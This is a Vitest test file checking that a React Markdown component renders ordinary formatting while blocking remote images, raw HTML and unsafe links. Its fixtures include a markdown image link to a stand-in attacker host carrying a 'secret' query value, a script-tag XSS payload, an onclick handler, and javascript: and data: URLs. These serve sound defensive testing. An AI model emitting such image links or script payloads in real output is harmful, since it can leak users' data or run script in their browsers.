import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./markdown";

const html = (text: string): string => renderToStaticMarkup(createElement(Markdown, { text }));

describe("Markdown", () => {
  it("renders what people expect of a message", () => {
    const out = html("# Hi\n\n- **one**\n\n| a | b |\n|---|---|\n| 1 | 2 |");
    expect(out).toContain("<h1>Hi</h1>");
    expect(out).toContain("<strong>one</strong>");
    expect(out).toContain("<td>1</td>");
  });

  it("loads nothing from elsewhere", () => {
    const out = html("![x](https://evil.example/p.png?d=secret) <img src='https://evil.example'>");
    expect(out).not.toMatch(/<img|<picture|<iframe/);
    expect(out).toContain("image not loaded");
  });

  it("never makes elements of HTML in the text", () => {
    const out = html("<script>alert(1)</script>\n\n<b onclick='x()'>b</b>");
    expect(out).not.toMatch(/<script|<b |onclick=['"]/);
  });

  it("drops links that are not for following and guards the rest", () => {
    expect(html("[a](javascript:alert(1))")).not.toContain("javascript:");
    expect(html("[a](data:text/html,x)")).not.toContain("data:");
    expect(html("[a](https://example.com)")).toContain('rel="noopener noreferrer nofollow"');
  });
});
